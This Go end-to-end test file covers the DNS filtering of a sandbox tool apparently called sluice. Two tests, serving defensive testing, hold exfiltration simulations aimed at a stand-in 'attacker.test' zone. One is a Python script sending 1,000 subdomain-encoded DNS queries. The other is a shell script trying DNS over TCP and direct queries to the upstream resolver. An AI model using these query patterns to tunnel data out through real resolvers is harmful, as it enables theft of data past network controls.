package e2e

import (
	"fmt"
	"net"
	"os"
	"os/exec"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/sluice-dev/sluice/pkg/audit"
	"github.com/sluice-dev/sluice/pkg/testutil"
)

// Issue 5: the sandbox's resolver, seen from real clients inside a sandbox.

// requireTools fails (never skips: these are acceptance tests) when a
// client the test drives is not installed, naming the Debian package.
func requireTools(t *testing.T, tools ...string) {
	t.Helper()
	pkgs := map[string]string{"dig": "dnsutils", "nslookup": "dnsutils", "node": "nodejs", "python3": "python3",
		"git": "git", "curl": "curl", "getent": "libc-bin"}
	for _, tool := range tools {
		if _, err := exec.LookPath(tool); err != nil {
			t.Fatalf("%s is not installed: apt-get install %s", tool, pkgs[tool])
		}
	}
}

// TestDNSClientsResolveAllowedOnly: getent, dig, nslookup, Python and Node
// resolve an allowed name and fail for a forbidden one, which never reaches
// the upstream.
func TestDNSClientsResolveAllowedOnly(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	requireTools(t, "getent", "dig", "nslookup", "python3", "node")
	clients := []struct {
		name string
		cmd  func(host string) []string
		// ok checks the output of a successful resolution of allowed.test.
		ok func(out string) bool
		// failed checks the output for the forbidden name (exit status
		// checked separately where the client sets one).
		failed       func(out string) bool
		exitOnFailed bool
	}{
		{
			name:         "getent",
			cmd:          func(h string) []string { return []string{"getent", "hosts", h} },
			ok:           func(out string) bool { return strings.Contains(out, "127.0.0.1") },
			failed:       func(out string) bool { return !strings.Contains(out, "127.0.0.1") },
			exitOnFailed: true,
		},
		{
			name: "dig",
			cmd:  func(h string) []string { return []string{"dig", "+tries=1", "+time=5", h, "A"} },
			ok: func(out string) bool {
				return strings.Contains(out, "status: NOERROR") && regexp.MustCompile(`allowed\.test\.\s+\d+\s+IN\s+A\s+127\.0\.0\.1`).MatchString(out)
			},
			failed: func(out string) bool { return strings.Contains(out, "status: NXDOMAIN") },
		},
		{
			name:         "nslookup",
			cmd:          func(h string) []string { return []string{"nslookup", "-timeout=5", h} },
			ok:           func(out string) bool { return strings.Contains(out, "Address: 127.0.0.1") },
			failed:       func(out string) bool { return strings.Contains(out, "NXDOMAIN") },
			exitOnFailed: true,
		},
		{
			name: "python",
			cmd: func(h string) []string {
				return []string{"python3", "-c", "import socket, sys; print(sorted({a[4][0] for a in socket.getaddrinfo(sys.argv[1], 443)}))", h}
			},
			ok:           func(out string) bool { return strings.Contains(out, "'127.0.0.1'") },
			failed:       func(out string) bool { return strings.Contains(out, "gaierror") },
			exitOnFailed: true,
		},
		{
			name: "node",
			cmd: func(h string) []string {
				return []string{"node", "-e", `require("dns").lookup(process.argv[1], (err, addr) => { if (err) { console.log("lookup error", err.code); process.exit(1) } console.log("address", addr) })`, h}
			},
			ok:           func(out string) bool { return strings.Contains(out, "address 127.0.0.1") },
			failed:       func(out string) bool { return strings.Contains(out, "lookup error ENOTFOUND") },
			exitOnFailed: true,
		},
	}
	for _, c := range clients {
		t.Run(c.name, func(t *testing.T) {
			out, code := w.run(t, "", c.cmd("allowed.test")...)
			if code != 0 || !c.ok(out) {
				t.Errorf("%s allowed.test: exit %d, did not resolve:\n%s", c.name, code, out)
			}
			out, code = w.run(t, "", c.cmd("forbidden.test")...)
			if (c.exitOnFailed && code == 0) || !c.failed(out) {
				t.Errorf("%s forbidden.test: exit %d, want a resolution failure:\n%s", c.name, code, out)
			}
			var denied bool
			for _, ev := range w.events(t) {
				if ev.Kind == audit.KindDNS && ev.QName == "forbidden.test" && ev.Decision == audit.DecisionDeny {
					denied = true
				}
			}
			if !denied {
				t.Errorf("%s: no dns deny event for forbidden.test", c.name)
			}
		})
	}
	if !w.dns.Received("allowed.test") {
		t.Fatal("the upstream never saw allowed.test (the check below could not fail)")
	}
	if w.dns.Received("forbidden.test") {
		t.Fatal("the forbidden name reached the upstream resolver")
	}
}

// TestDNSExfiltrationNeverReachesUpstream: 1,000 subdomain-encoded queries
// (several types) for an attacker's zone produce no upstream query.
func TestDNSExfiltrationNeverReachesUpstream(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	requireTools(t, "python3")
	// Plain UDP DNS queries to the resolv.conf server (redirected by the
	// kernel), built by hand so that every one is a distinct name and
	// the types vary.
	script := `
import os, random, socket, struct, sys
ns = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
types = [1, 16, 28, 255, 5, 15]  # A TXT AAAA ANY CNAME MX
rcodes = {}
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(3)
for i in range(1000):
    name = os.urandom(20).hex() + ".attacker.test"
    qid = random.randrange(65536)
    q = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    q += struct.pack(">HH", types[i % len(types)], 1)
    s.sendto(q, (ns, 53))
    try:
        while True:
            data, _ = s.recvfrom(4096)
            if struct.unpack(">H", data[:2])[0] == qid:
                break
        rc = data[3] & 0xf
    except socket.timeout:
        rc = "timeout"
    rcodes[rc] = rcodes.get(rc, 0) + 1
print("rcodes", sorted(rcodes.items(), key=str))
`
	// The demo policy with a dns_qps fence above this loop's rate: the
	// fence would answer queries past it REFUSED (TestDNSQPSFence covers that); this
	// test is about what the resolver answers.
	demo, err := os.ReadFile("../../testdata/policies/demo.yaml")
	if err != nil {
		t.Fatal(err)
	}
	pol := writePolicy(t, w.dir, "exfil.yaml", string(demo)+"\nlimits: {dns_qps: 1000000}\n")
	out, code := w.run(t, pol, "python3", "-c", script)
	if code != 0 {
		t.Fatalf("exfiltration script: exit %d\n%s", code, out)
	}
	// Every query was answered NXDOMAIN (rcode 3).
	if !strings.Contains(out, "rcodes [(3, 1000)]") {
		t.Errorf("want 1000 NXDOMAIN answers, got:\n%s", out)
	}
	for _, q := range w.dns.Queries() {
		if strings.HasSuffix(q, "attacker.test") {
			t.Fatalf("an exfiltration query reached the upstream: %s", q)
		}
	}
	n := 0
	for _, ev := range w.events(t) {
		if ev.Kind == audit.KindDNS && strings.HasSuffix(ev.QName, ".attacker.test") && ev.Decision == audit.DecisionDeny {
			n++
		}
	}
	if n != 1000 {
		t.Errorf("want 1000 dns deny events for attacker.test, got %d", n)
	}
}

// TestDNSExfiltrationOtherRoutes: DNS over TCP through the redirect, and
// queries sent straight to the upstream resolver's own address (UDP and
// TCP, after an allowed name put 127.0.0.1 in the allowlist) never reach
// the upstream either.
func TestDNSExfiltrationOtherRoutes(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	requireTools(t, "dig")
	host, port, _ := net.SplitHostPort(w.dns.Addr)
	script := fmt.Sprintf(`getent hosts allowed.test >/dev/null || echo "allowed.test did not resolve"
for i in $(seq 20); do
  n=$(head -c 12 /dev/urandom | od -An -tx1 | tr -d ' \n')
  echo "tcp53 $(dig +tcp +tries=1 +time=3 tcp-$n.attacker.test TXT | grep -o 'status: [A-Z]*')"
done
echo "direct-udp $(dig @%[1]s -p %[2]s +tries=1 +time=2 direct-udp.attacker.test A 2>&1 | grep -o 'status: [A-Z]*\|connection refused\|timed out\|not permitted\|no servers' | head -1)"
echo "direct-tcp $(dig @%[1]s -p %[2]s +tcp +tries=1 +time=2 direct-tcp.attacker.test A 2>&1 | grep -o 'status: [A-Z]*\|connection refused\|timed out\|not permitted\|no servers\|end of file\|reset' | head -1)"
`, host, port)
	out, code := w.run(t, "", "sh", "-c", script)
	if code != 0 || strings.Contains(out, "did not resolve") {
		t.Fatalf("script: exit %d\n%s", code, out)
	}
	t.Logf("sandbox output:\n%s", out)
	if c := strings.Count(out, "tcp53 status: NXDOMAIN"); c != 20 {
		t.Errorf("DNS over TCP: %d of 20 answered NXDOMAIN:\n%s", c, out)
	}
	for _, line := range strings.Split(out, "\n") {
		if strings.HasPrefix(line, "direct-") && strings.Contains(line, "NOERROR") {
			t.Errorf("a query sent straight to the upstream got an answer: %s", line)
		}
	}
	for _, q := range w.dns.Queries() {
		if strings.HasSuffix(q, "attacker.test") {
			t.Errorf("an exfiltration query reached the upstream: %s\n%s", q, out)
		}
	}
}

// listenEach listens on the same TCP port on every address and answers
// "pong <addr>" to each connection.
func listenEach(t *testing.T, addrs []string) int {
	t.Helper()
	for attempt := 0; attempt < 20; attempt++ {
		var lns []net.Listener
		port := 0
		ok := true
		for _, a := range addrs {
			ln, err := net.Listen("tcp4", net.JoinHostPort(a, strconv.Itoa(port)))
			if err != nil {
				ok = false
				break
			}
			lns = append(lns, ln)
			port = ln.Addr().(*net.TCPAddr).Port
		}
		if !ok {
			for _, ln := range lns {
				ln.Close()
			}
			continue
		}
		for _, ln := range lns {
			t.Cleanup(func() { ln.Close() })
			go func() {
				for {
					c, err := ln.Accept()
					if err != nil {
						return
					}
					go testutil.Pong(c, fmt.Sprintf("pong %s", c.LocalAddr().(*net.TCPAddr).IP))
				}
			}()
		}
		return port
	}
	t.Fatal("could not listen on one port on every address")
	return 0
}

// TestDNSRotatingAddressesAllReachable: a name whose answer rotates among
// 8 addresses: after the sandbox resolved each in turn, connections to
// every one of them succeed (they accumulate in the allowlist within
// TTL+grace; the newest answer does not evict the others).
func TestDNSRotatingAddressesAllReachable(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	dnsTTL, err := testutil.StartDNSTTL(nil, 1)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(dnsTTL.Close)
	w.dns = dnsTTL
	var addrs []string
	for i := 10; i < 18; i++ {
		addrs = append(addrs, fmt.Sprintf("127.0.0.%d", i))
	}
	port := listenEach(t, addrs)
	d := startDaemon(t, w, daemonOpts{})
	pol := writePolicy(t, w.dir, "rot.yaml", "version: 1\nrules:\n  - name: rot\n    hosts: [rot.test]\n")
	cg, pid := sandboxProc(t, "")
	if out, err := d.cli("attach", "--policy", pol, "--pid", fmt.Sprint(pid), "--name", "rot"); err != nil {
		t.Fatalf("attach: %v\n%s", err, out)
	}
	probe := func(target string) string {
		out, _ := inSandbox(t, cg, "", "env", "SLUICE_TEST_PROBE=tcp", os.Args[0], "-test.run=^$", target)
		return strings.TrimSpace(out)
	}
	// Before any answer, the addresses are closed to the sandbox.
	if out := probe(net.JoinHostPort(addrs[0], strconv.Itoa(port))); !strings.Contains(out, "error EPERM") {
		t.Fatalf("connect to %s before it was resolved: %q, want error EPERM", addrs[0], out)
	}
	start := time.Now()
	for i, a := range addrs {
		w.dns.Set("rot.test", a)
		// Until the 1 s TTL of the previous answer runs out, the resolver
		// may still give that one: ask again until the new one comes.
		testutil.WaitFor(t, fmt.Sprintf("query %d to answer %s", i, a), func() bool {
			out, err := inSandbox(t, cg, "", "getent", "ahostsv4", "rot.test")
			return err == nil && strings.Contains(out, a)
		})
	}
	// The connects are independent: make them at once.
	outs := make([]string, len(addrs))
	var wg sync.WaitGroup
	for i, a := range addrs {
		wg.Add(1)
		go func() {
			defer wg.Done()
			outs[i] = probe(net.JoinHostPort(a, strconv.Itoa(port)))
		}()
	}
	wg.Wait()
	for i, a := range addrs {
		if outs[i] != "ok pong "+a {
			t.Errorf("connect to %s:%d after it was answered: %q, want ok pong", a, port, outs[i])
		}
	}
	if el := time.Since(start); el > 60*time.Second {
		t.Fatalf("took %v: longer than the minimum TTL, the test proves nothing", el)
	}
}

// TestDNSRemapReachesMirror: a remapped registry name resolves to the
// mirror's address, and curl to it through the proxy reaches the mirror
// with the mirror's Host and the mirror's certificate checked.
func TestDNSRemapReachesMirror(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	orig := w.api
	w.dns.Set("registry.test", "127.0.0.3") // the public answer, never used
	w.dns.Set("mirror.test", "127.0.0.1")
	mirror := useAPI(t, w, []string{"mirror.test"}, nil) // no certificate for registry.test
	pol := writePolicy(t, w.dir, "remap.yaml", `version: 1
rules:
  - name: registry
    hosts: [registry.test]
    remap: mirror.test
`)
	out, code := w.run(t, pol, "getent", "ahostsv4", "registry.test")
	if code != 0 || !strings.Contains(out, "127.0.0.1") || strings.Contains(out, "127.0.0.3") {
		t.Fatalf("registry.test should resolve to the mirror's 127.0.0.1: exit %d\n%s", code, out)
	}
	var remapped bool
	for _, ev := range w.events(t) {
		if ev.Kind == audit.KindDNS && ev.QName == "registry.test" && ev.QType == "A" && ev.Decision == audit.DecisionAllow &&
			ev.Rule == "registry" && len(ev.Answers) > 0 && ev.Answers[0] == "127.0.0.1" {
			remapped = true
		}
	}
	if !remapped {
		t.Error("no dns event for registry.test (rule registry) answering the mirror's address")
	}
	url := fmt.Sprintf("https://registry.test:%d/pkg/left-pad", mirror.Port)
	out, code = w.run(t, pol, "curl", "-sS", "--max-time", "10", url)
	if code != 0 || !strings.Contains(out, "hello from upstream /pkg/left-pad") {
		t.Fatalf("curl registry.test through the remap: exit %d\n%s", code, out)
	}
	reqs := mirror.Requests()
	if len(reqs) != 1 {
		t.Fatalf("mirror got %d requests, want 1", len(reqs))
	}
	if host, _, _ := strings.Cut(reqs[0].Host, ":"); host != "mirror.test" {
		t.Fatalf("mirror saw Host %q, want mirror.test", reqs[0].Host)
	}
	// The mirror's certificate is checked: without its CA, 502.
	w.api = orig
	out, code = w.run(t, pol, "curl", "-sS", "--max-time", "10", "-w", "\n[status %{http_code}]\n", url)
	if code != 0 || !strings.Contains(out, "[status 502]") {
		t.Fatalf("mirror with an untrusted certificate: exit %d, want 502:\n%s", code, out)
	}
	if n := len(mirror.Requests()); n != 1 {
		t.Fatalf("a request reached the mirror over unverified TLS")
	}
}

var digQueryTime = regexp.MustCompile(`Query time: (\d+) msec`)

// TestDNSUpstreamDownServfail: with the upstream down the sandbox gets
// SERVFAIL within the resolver's timeout (2 s default), never an
// unfiltered answer; once it is back, the name resolves again.
func TestDNSUpstreamDownServfail(t *testing.T) {
	w := newWorld(t)
	requireTools(t, "dig")
	d := startDaemon(t, w, daemonOpts{})
	pol := writePolicy(t, w.dir, "p.yaml", "version: 1\nrules:\n  - name: p\n    hosts: [allowed.test]\n")
	cg, pid := sandboxProc(t, "")
	if out, err := d.cli("attach", "--policy", pol, "--pid", fmt.Sprint(pid), "--name", "down"); err != nil {
		t.Fatalf("attach: %v\n%s", err, out)
	}
	w.dns.SetDown(true)
	out, err := inSandbox(t, cg, "", "dig", "+tries=1", "+time=10", "allowed.test", "A")
	if err != nil || !strings.Contains(out, "status: SERVFAIL") || strings.Contains(out, "ANSWER SECTION") {
		t.Fatalf("upstream down: want SERVFAIL without answers: %v\n%s", err, out)
	}
	m := digQueryTime.FindStringSubmatch(out)
	if m == nil {
		t.Fatalf("no query time in dig's output:\n%s", out)
	}
	if ms, _ := strconv.Atoi(m[1]); ms > 3000 {
		t.Fatalf("SERVFAIL after %d ms, want within the 2 s timeout (+1 s slack)", ms)
	}
	w.dns.SetDown(false)
	out, err = inSandbox(t, cg, "", "dig", "+tries=1", "+time=10", "allowed.test", "A")
	if err != nil || !strings.Contains(out, "status: NOERROR") || !strings.Contains(out, "127.0.0.1") {
		t.Fatalf("upstream back: want the answer: %v\n%s", err, out)
	}
}

// TestDNSAAAAFilteredLikeA: AAAA answers for an allowed name come through,
// a forbidden name's AAAA query is refused without reaching upstream, and
// `ipv6: false` empties AAAA answers while A still resolves.
func TestDNSAAAAFilteredLikeA(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	requireTools(t, "dig")
	w.dns.Set("v6.test", "127.0.0.1", "::1")
	w.dns.Set("v6-forbidden.test", "::1")
	script := `for q in "v6.test AAAA" "v6.test A" "v6-forbidden.test AAAA"; do
  set -- $q
  echo "$1 $2 $(dig +tries=1 +time=3 "$1" "$2" | grep -o 'status: [A-Z]*') answers=$(dig +short +tries=1 +time=3 "$1" "$2" | tr '\n' ',')"
done`
	for _, c := range []struct {
		name, policy string
		want         []string
	}{
		{"ipv6 on", "version: 1\nrules:\n  - name: v6\n    hosts: [v6.test]\n", []string{
			"v6.test AAAA status: NOERROR answers=::1,", "v6.test A status: NOERROR answers=127.0.0.1,",
			"v6-forbidden.test AAAA status: NXDOMAIN answers=\n"}},
		{"ipv6 off", "version: 1\nipv6: false\nrules:\n  - name: v6\n    hosts: [v6.test]\n", []string{
			"v6.test AAAA status: NOERROR answers=\n", "v6.test A status: NOERROR answers=127.0.0.1,",
			"v6-forbidden.test AAAA status: NXDOMAIN answers=\n"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			pol := writePolicy(t, w.dir, "v6.yaml", c.policy)
			out, code := w.run(t, pol, "sh", "-c", script)
			if code != 0 {
				t.Fatalf("exit %d\n%s", code, out)
			}
			for _, want := range c.want {
				if !strings.Contains(out, want) {
					t.Errorf("want %q in:\n%s", want, out)
				}
			}
		})
	}
	if w.dns.Received("v6-forbidden.test") {
		t.Fatal("the forbidden name's AAAA query reached the upstream")
	}
}
